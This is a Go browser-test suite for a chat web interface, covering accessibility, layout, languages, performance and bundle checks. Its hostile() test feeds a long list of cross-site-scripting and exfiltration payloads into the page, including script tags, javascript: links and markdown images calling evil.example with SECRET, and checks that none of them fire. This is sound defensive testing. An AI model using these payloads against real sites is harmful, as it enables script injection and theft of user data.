package web

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/performance"
	"github.com/chromedp/chromedp"
)

// payloads are texts that would run a script, ask another server, or carry words away, if the page took them for more than text.
var payloads = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<img src="https://evil.example/?q=SECRET">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<iframe src="https://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="https://evil.example/x">`, `<embed src="https://evil.example/x">`, `<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import "https://evil.example/x.css";</style>`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)></form>`, `<video src="https://evil.example/v" autoplay>`,
	`<audio src="https://evil.example/a" autoplay>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
	`![x](https://evil.example/?q=SECRET)`, `![x](https://evil.example/?q=SECRET "title")`, `![x][ref]` + "\n\n[ref]: https://evil.example/?q=SECRET", `[![x](https://evil.example/a.png)](https://evil.example/b)`, `![x](//evil.example/a.png)`,
	`![x](data:image/svg+xml,<svg onload=alert(1)>)`, `[a](javascript:alert(1))`, `[a](JaVaScRiPt:alert(1))`, `[a](java&#115;cript:alert(1))`, "[a](java\tscript:alert(1))",
	`[a]( javascript:alert(1))`, `[a](<javascript:alert(1)>)`, `[a](data:text/html,<script>alert(1)</script>)`, `[a](vbscript:alert(1))`, `[a](blob:https://evil.example/x)`,
	`[a](file:///etc/passwd)`, `[a](\javascript:alert(1))`, `<javascript:alert(1)>`, `<https://evil.example/" onmouseover="alert(1)>`, `https://evil.example/"onmouseover="alert(1)`,
	`[a](https://evil.example/ "onmouseover=alert(1)")`, "`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
	`| <img src=x onerror=alert(1)> | ![x](https://evil.example/t) |` + "\n|---|---|\n" + `| [a](javascript:alert(1)) | <script>alert(1)</script> |`, `> <img src=x onerror=alert(1)>`, `- [ ] <img src=x onerror=alert(1)>`, `# <script>alert(1)</script>`, `**<img src=x onerror=alert(1)>**`,
	`$\href{javascript:alert(1)}{x}$`, `$$\url{https://evil.example/?q=SECRET}$$`, `$\includegraphics{https://evil.example/i.png}$`, `$\htmlData{x=y}{z}\style{background:url(https://evil.example/s)}{x}$`, `$\text{<img src=x onerror=alert(1)>}$`,
	`$\def\a{\a\a}\a$`, `$\class{x" onmouseover="alert(1)}{y}$`, `\(\unicode{x3c}script\unicode{x3e}alert(1)\)`, "[1](javascript:alert(1)) [2](https://evil.example/?q=SECRET)", "\u202e<script>alert(1)</script>\u202c\u200b![x](https://evil.example/z)",
	`{{constructor.constructor('alert(1)')()}}`, `<a href="https://evil.example" ping="https://evil.example/p">x</a>`, `<input type=image src="https://evil.example/i">`, `<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>`,
}

// hostile shows every payload as an answer, as a question and as a title, and counts what would be an escape.
func hostile(b *browser) {
	var mu sync.Mutex
	var asked, dialogs []string
	own := 0
	ctx, cancel := context.WithCancel(b.ctx)
	defer cancel()
	if _, err := chromedp.Call(b.ctx, network.Enable, network.EnableParams{}); err != nil {
		b.t.Fatal(err)
	}
	err := chromedp.Listen(ctx, func(ev any) {
		mu.Lock()
		defer mu.Unlock()
		switch e := ev.(type) {
		case *network.EventRequestWillBeSent:
			if u := e.Request.URL; !strings.HasPrefix(u, b.url+"/") && !strings.HasPrefix(u, "about:") && !strings.HasPrefix(u, "blob:"+b.url) {
				asked = append(asked, u)
			} else {
				own++
			}
		case *page.EventJavascriptDialogOpening:
			dialogs = append(dialogs, e.Message)
		}
	})
	if err != nil {
		b.t.Fatal(err)
	}
	b.fresh()
	b.run(`window.violations = []; document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective + " " + e.blockedURI))`)
	for i, p := range payloads {
		b.answered("say " + p)
		if bad := eval[[]string](b, `[...document.querySelectorAll(".transcript :is(img, iframe, object, embed, script, style, link, base, meta, video, audio, form:not(.editor), marquee, details, template)")].map((e) => e.outerHTML)`); len(bad) > 0 {
			b.t.Errorf("payload %d %q made %q", i, p, bad)
		}
		if i%8 == 7 {
			b.run(`document.querySelector(".new-chat").click()`)
			b.until(`document.querySelector(".first-words")`)
		}
	}
	if bad := eval[[]string](b, `[...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name) || (/^(href|src|action|data|xlink:href|ping)$/i.test(a.name) && /^\s*(javascript|data|vbscript|blob|file):/i.test(a.value)))).map((e) => e.outerHTML)`); len(bad) > 0 {
		b.t.Errorf("attributes that act: %q", bad)
	}
	if bad := eval[[]string](b, `[...document.querySelectorAll('.transcript a[target="_blank"]')].filter((e) => !/noopener/.test(e.rel) || !/noreferrer/.test(e.rel)).map((e) => e.outerHTML)`); len(bad) > 0 {
		b.t.Errorf("links that tell where one comes from: %q", bad)
	}
	if bad := eval[[]string](b, `violations`); len(bad) > 0 {
		b.t.Errorf("the page tried what its policy forbids: %q", bad)
	}
	b.shot("hostile")
	mu.Lock()
	defer mu.Unlock()
	if own == 0 {
		b.t.Error("no request was seen at all")
	}
	if len(asked) > 0 || len(dialogs) > 0 {
		b.t.Errorf("requests to elsewhere: %q, dialogs: %q", asked, dialogs)
	}
	b.t.Logf("%d payloads: no request to elsewhere, no dialog", len(payloads))
}

// accessible lets axe look at the main states, in light and dark, English and Chinese.
func accessible(b *browser) {
	axe, err := os.ReadFile("node_modules/axe-core/axe.min.js")
	if err != nil {
		b.t.Skip("no axe-core (make web fetches it): accessibility is not checked")
	}
	check := func(name string) {
		b.t.Helper()
		if !eval[bool](b, `typeof axe === "object"`) {
			eval[any](b, string(axe)+"; true")
		}
		b.run(`window.found = null; axe.run(document, { resultTypes: ["violations"] }).then((r) => { window.found = r.violations.filter((v) => v.impact === "serious" || v.impact === "critical").map((v) => v.id + ": " + v.nodes.slice(0, 3).map((n) => n.html.slice(0, 160) + " " + (n.any[0]?.message ?? "")).join(" | ")); })`)
		b.until(`window.found`)
		for _, v := range eval[[]string](b, `window.found`) {
			b.t.Errorf("%s: %s", name, v)
		}
	}
	defer b.dark(false)
	for _, lang := range []string{"en", "zh-CN"} {
		for _, dark := range []bool{false, true} {
			b.dark(dark)
			name := fmt.Sprintf("%s-%s", lang, map[bool]string{false: "light", true: "dark"}[dark])
			b.fresh()
			b.run(fmt.Sprintf(`localStorage.setItem("language", %q)`, lang))
			b.open("")
			check(name + "-empty")
			b.shot("look-" + name + "-empty")
			b.answered(map[string]string{"en": "cited", "zh-CN": "引用 潮汐磨坊是怎样工作的？"}[lang])
			b.click(".prose .cite")
			b.until(`document.querySelector(".card .surrounding")`)
			check(name + "-card")
			b.shot("look-" + name + "-card")
			b.press("body", `key: "Escape"`)
			b.answered("rich")
			check(name + "-rich")
			b.shot("look-" + name + "-rich")
			b.click(".badge")
			b.until(`document.querySelector("dialog")`)
			check(name + "-consent")
			b.press("dialog", `key: "Escape"`)
			b.run(`document.querySelector("dialog .icon-button").click()`)
			for _, p := range []string{"#/account", "#/admin"} {
				b.open(p)
				b.until(`document.querySelector(".page h1")`)
				check(name + p)
			}
		}
	}
}

// narrow looks for sideways scrolling on small and enlarged windows, and goes through the page on a phone.
func narrow(b *browser) {
	defer b.viewport(1280, 800)
	wide := func(where string) {
		b.t.Helper()
		if got := eval[[]string](b, `[document.documentElement, ...document.querySelectorAll("body *")].filter((e) => { const s = getComputedStyle(e); return e.scrollWidth > e.clientWidth + 1 && e.clientWidth > 0 && !["auto", "scroll"].includes(s.overflowX) === false && !e.matches(".table-box, .code pre, .maths, .sources ol") || (e === document.documentElement && e.scrollWidth > innerWidth); }).map((e) => e.tagName + "." + e.className)`); len(got) > 0 {
			b.t.Errorf("%s scrolls sideways: %v", where, got)
		}
		if got := eval[[]string](b, `[...document.querySelectorAll(".composer *, .head *, .turn > *, .door *, .page-body > *")].filter((e) => { const r = e.getBoundingClientRect(); return r.width > 1 && r.right > innerWidth + 1 && !e.closest(".table-box, pre, .maths, .sources, .sr-only"); }).map((e) => e.outerHTML.slice(0, 100))`); len(got) > 0 {
			b.t.Errorf("%s: outside the window: %v", where, got)
		}
	}
	for _, w := range []struct {
		name string
		w, h int64
	}{{"320", 320, 640}, {"phone", 390, 844}, {"zoom-200", 640, 400}, {"tablet", 820, 1100}} {
		b.viewport(w.w, w.h)
		b.fresh()
		wide(w.name + " empty")
		b.shot("small-" + w.name + "-empty")
		b.answered("cited")
		b.shot("small-" + w.name + "-cited")
		b.click(".prose .cite")
		b.until(`document.querySelector(".card .surrounding")`)
		wide(w.name + " card")
		b.shot("small-" + w.name + "-card")
		b.press("body", `key: "Escape"`)
		b.answered("rich")
		wide(w.name + " rich")
		b.shot("small-" + w.name + "-rich")
		b.ask("held up")
		b.until(`document.querySelector(".stages")?.textContent.includes("place 2")`)
		if got := eval[string](b, `getComputedStyle(document.querySelector(".stages"), "::before").content`); w.w < 480 && got != "none" {
			b.t.Errorf("%s: what is being done begins a line with %s", w.name, got)
		}
		b.click(".send.stop")
		b.until(ended)
		b.click(".badge")
		b.until(`document.querySelector("dialog .consent select")`)
		if got := eval[float64](b, `document.querySelector(".consent .radios label").getBoundingClientRect().right - document.querySelector(".consent select").getBoundingClientRect().right`); w.w < 400 && got > 1 {
			b.t.Errorf("%s: the choice for a chat ends %v px before those above", w.name, got)
		}
		b.click("dialog .icon-button")
		b.click("#show-rail")
		b.until(`document.querySelector(".rail") && document.activeElement.closest(".rail") && document.querySelector("main").closest("[inert]")`)
		b.press("body", `key: "Escape"`)
		b.until(`!document.querySelector(".rail") && document.activeElement.id === "show-rail"`)
		b.click("#show-rail")
		b.until(`document.querySelector(".rail")`)
		wide(w.name + " drawer")
		b.shot("small-" + w.name + "-drawer")
		b.click(".rail li a")
		b.until(`!document.querySelector(".rail")`)
		b.click(".compare")
		b.ask("two of them")
		b.until(ended)
		wide(w.name + " pair")
		b.shot("small-" + w.name + "-pair")
		for _, p := range []string{"#/account", "#/admin"} {
			b.open(p)
			b.until(`document.querySelector(".panel table, .panel form")`)
			wide(w.name + p)
			b.until(`document.querySelector(".panel")`)
			if got := eval[float64](b, `Math.max(0, ...[...document.querySelectorAll(".panel td")].map((e) => e.offsetHeight))`); got > 60 {
				b.t.Errorf("%s%s: a cell is %v px high", w.name, p, got)
			}
		}
	}
}

// languages switches between the languages and keeps the choice.
func languages(b *browser) {
	b.fresh()
	for _, l := range []struct{ code, word string }{{"zh-CN", "账户"}, {"zh-TW", "帳號"}, {"en", "Account"}} {
		b.open("#/account")
		b.typeText(".language", l.code)
		b.until(fmt.Sprintf(`document.documentElement.lang === %q && document.querySelector(".page h1").textContent === %q`, l.code, l.word))
		b.do(reload())
		b.until(fmt.Sprintf(`document.documentElement.lang === %q && document.querySelector(".page h1")?.textContent === %q`, l.code, l.word))
		b.open("")
		b.shot("language-" + l.code)
	}
	b.run(`localStorage.setItem("language", "zh-CN")`)
	b.open("")
	b.answered("rich")
	b.until(`[...document.querySelectorAll(".prose a")].some((e) => e.textContent.startsWith("图片：a wheel"))`)
	b.run(`localStorage.setItem("language", "en")`)
	b.open("#/account")
	b.run(`document.querySelectorAll('input[name="theme"]')[2].click()`)
	b.do(reload())
	b.until(`document.documentElement.dataset.theme === "dark" && getComputedStyle(document.body).backgroundColor === "rgb(20, 23, 28)"`)
	b.run(`localStorage.removeItem("theme")`)
}

// long opens a chat of a thousand messages and streams into it.
func long(b *browser) {
	b.fresh()
	b.mock.mu.Lock()
	chat, parent, hit := "m000000", "", ""
	b.mock.chats[chat] = object{"id": chat, "title": "long", "created": "2026-11-25T00:00:00Z", "updated": "2026-11-25T00:00:00Z", "consent": "default"}
	for i := range 1000 {
		role, text := "user", fmt.Sprintf("Question %d about wheels?", i)
		if i%2 == 1 {
			role, text = "assistant", fmt.Sprintf("## Answer %d\n\nThe wheel **turns**, `and` turns.\n\n- one\n- two\n\n```go\nx := %d\n```\n\nIt keeps what it has.", i, i)
		}
		x := &mockMessage{object: object{"id": b.mock.id(), "chat": chat, "role": role, "text": text, "created": "2026-11-25T00:00:00Z", "state": "done", "model": "house-0.3"}, more: sync.NewCond(&b.mock.mu), done: true}
		if parent != "" {
			x.object["parent"] = parent
		}
		parent = x.object["id"].(string)
		b.mock.add(x)
		if i == 101 {
			hit = parent
		}
	}
	b.mock.mu.Unlock()
	start := time.Now()
	b.open("#/chat/" + chat)
	b.until(`document.querySelectorAll("[data-turn]").length === 1000 && document.querySelector(".answer.last")`)
	b.t.Logf("1,000 messages open in %v", time.Since(start).Round(time.Millisecond))
	time.Sleep(200 * time.Millisecond)
	if n := eval[int](b, `document.querySelectorAll("*").length`); n > 6000 {
		b.t.Errorf("%d elements", n)
	} else {
		b.t.Logf("%d elements", n)
	}
	if rest := eval[float64](b, `(() => { const e = document.querySelector(".scroller"); return e.scrollHeight - e.clientHeight - e.scrollTop; })()`); rest > 5 {
		b.t.Errorf("the end is %g pixels away", rest)
	}
	b.run(`window.work = []; new PerformanceObserver((l) => l.getEntries().forEach((e) => work.push(e.duration))).observe({ type: "long-animation-frame" });
		window.frames = []; const raf = window.requestAnimationFrame; window.requestAnimationFrame = (f) => raf((t) => { const s = performance.now(); f(t); Promise.resolve().then(() => {}).then(() => {}).then(() => { document.body.offsetHeight; frames.push(performance.now() - s); }); })`)
	for _, question := range []string{"long please", "list please"} {
		b.run(`window.frames = []; window.work.length = 0`)
		before := b.cpu()
		b.answered(question)
		spent := b.cpu()
		n := eval[float64](b, `frames.length`)
		b.t.Logf("%s: time of the page's thread a frame: script %.1f ms, layout %.1f ms, style %.1f ms, all %.1f ms", question, 1000*(spent["ScriptDuration"]-before["ScriptDuration"])/n,
			1000*(spent["LayoutDuration"]-before["LayoutDuration"])/n, 1000*(spent["RecalcStyleDuration"]-before["RecalcStyleDuration"])/n, 1000*(spent["TaskDuration"]-before["TaskDuration"])/n)
		b.t.Logf("%s: frames with tokens: %s", question, eval[string](b, `(() => { const f = frames.toSorted((a, b) => a - b); return f.length + ", median " + f[f.length >> 1].toFixed(1) + " ms, p95 " + f[Math.floor(f.length * 0.95)].toFixed(1) + " ms, max " + f[f.length - 1].toFixed(1) + " ms; long frames " + work.length; })()`))
	}
	b.run(`const e = document.querySelector(".scroller"); e.scrollTop = e.scrollHeight / 2`)
	b.until(`(() => { const at = document.elementFromPoint(760, 400)?.closest("[data-turn]"); return at && !at.classList.contains("ghost"); })()`)
	b.shot("long-middle")
	// A hit of a search far up stands in the window.
	b.open("#/chat/" + chat + "/" + hit)
	b.until(fmt.Sprintf(`document.querySelector('[data-turn=%q]:not(.ghost)')`, hit))
	time.Sleep(400 * time.Millisecond)
	if !eval[bool](b, fmt.Sprintf(`(() => { const r = document.querySelector('[data-turn=%q]').getBoundingClientRect(); return r.top >= 0 && r.bottom <= innerHeight; })()`, hit)) {
		b.t.Error("the message that was searched for is not in the window")
	}
	b.shot("long-hit")
	b.run(`document.querySelector(".to-end").click()`)
	b.until(`(() => { const e = document.querySelector(".scroller"); return e.scrollHeight - e.clientHeight - e.scrollTop < 5; })()`)
	if n := eval[int](b, `document.querySelectorAll("*").length`); n > 9000 {
		b.t.Errorf("%d elements in the middle", n)
	}
}

// cpu tells the seconds of processor that the page's thread has spent, by kind of work: other programs do not count.
func (b *browser) cpu() map[string]float64 {
	b.t.Helper()
	if _, err := chromedp.Call(b.ctx, performance.Enable, performance.EnableParams{TimeDomain: performance.EnableTimeDomainThreadTicks}); err != nil {
		b.t.Fatal(err)
	}
	got, err := chromedp.Call(b.ctx, performance.GetMetrics, cdp.Empty{})
	if err != nil {
		b.t.Fatal(err)
	}
	out := map[string]float64{}
	for _, m := range got.Metrics {
		out[m.Name] = m.Value
	}
	return out
}

// paints measures the first paint.
func paints(b *browser) {
	b.fresh()
	var all []string
	for range 5 {
		b.open("")
		b.until(`performance.getEntriesByName("first-contentful-paint").length`)
		all = append(all, eval[string](b, `performance.getEntriesByName("first-contentful-paint")[0].startTime.toFixed(0)`))
	}
	b.t.Logf("first contentful paint on loopback, ms: %s", strings.Join(all, " "))
}

// TestSize holds the page's scripts and styles to 200 kB, gzipped.
func TestSize(t *testing.T) {
	total := 0
	err := fs.WalkDir(Files(), ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || path.Ext(name) != ".js" && path.Ext(name) != ".css" {
			return err
		}
		b, err := fs.ReadFile(Files(), name)
		if err != nil {
			return err
		}
		var z bytes.Buffer
		w, _ := gzip.NewWriterLevel(&z, gzip.BestCompression)
		w.Write(b)
		w.Close()
		t.Logf("%s: %d bytes, %d gzipped", name, len(b), z.Len())
		total += z.Len()
		for _, bad := range []string{"https://cdn", "unpkg.com", "jsdelivr", "googleapis", "eval(", "new Function("} {
			if bytes.Contains(b, []byte(bad)) {
				t.Errorf("%s has %q", name, bad)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if total > 200_000 {
		t.Errorf("%d bytes gzipped, more than 200,000", total)
	}
}

// TestCompressed unpacks the compressed forms.
func TestCompressed(t *testing.T) {
	n := 0
	err := fs.WalkDir(Files(), ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || path.Ext(name) != ".br" {
			return err
		}
		n++
		packed, err := fs.ReadFile(Files(), name)
		if err != nil {
			return err
		}
		got, err := io.ReadAll(brotli.NewReader(bytes.NewReader(packed)))
		if err != nil {
			return err
		}
		want, err := fs.ReadFile(Files(), strings.TrimSuffix(name, ".br"))
		if err == nil && !bytes.Equal(got, want) {
			t.Errorf("%s is not the compressed form of its file; run: make web", name)
		}
		return err
	})
	if err != nil || n < 4 {
		t.Errorf("%d compressed files, %v", n, err)
	}
}

// TestBuilt tells a page that was not built anew after a change; make web-check compares its bytes, where there is npm.
func TestBuilt(t *testing.T) {
	files := []string{"index.html", "package-lock.json", "vite.config.ts"}
	for _, dir := range []string{"public", "src"} {
		err := filepath.WalkDir(dir, func(name string, d fs.DirEntry, err error) error {
			if err == nil && !d.IsDir() && !strings.Contains(name, ".test.") {
				files = append(files, filepath.ToSlash(name))
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	slices.Sort(files)
	sum := sha256.New()
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(sum, "%s\x00%x\n", f, sha256.Sum256(b))
	}
	got, err := fs.ReadFile(Files(), "sources.sha256")
	if want := fmt.Sprintf("%x\n", sum.Sum(nil)); err != nil || string(got) != want {
		t.Errorf("web/dist was built from other sources (%v); run: make web", err)
	}
}

// TestDocument looks that the page's document works under its policy: nothing inline, nothing from elsewhere, every file there.
func TestDocument(t *testing.T) {
	b, err := fs.ReadFile(Files(), "index.html")
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	for _, bad := range []string{"<style", " style=", " onload=", "http://", "https://"} {
		if strings.Contains(s, bad) {
			t.Errorf("index.html has %q", bad)
		}
	}
	for _, part := range strings.Split(s, `="/`)[1:] {
		name, _, _ := strings.Cut(part, `"`)
		if _, err := fs.Stat(Files(), name); err != nil {
			t.Error(err)
		}
	}
	if i := strings.Index(s, "<script"); i >= 0 && strings.Contains(s, "<script>") {
		t.Error("index.html has an inline script")
	}
	var lock struct {
		Packages map[string]struct{ License string }
	}
	raw, err := os.ReadFile("package-lock.json")
	if err == nil {
		err = json.Unmarshal(raw, &lock)
	}
	if err != nil {
		t.Fatal(err)
	}
	for name, p := range lock.Packages {
		switch p.License {
		case "MIT", "ISC", "Apache-2.0", "BSD-3-Clause", "BSD-2-Clause", "MPL-2.0", "0BSD":
		default:
			t.Errorf("package %q has the licence %q", name, p.License)
		}
	}
}
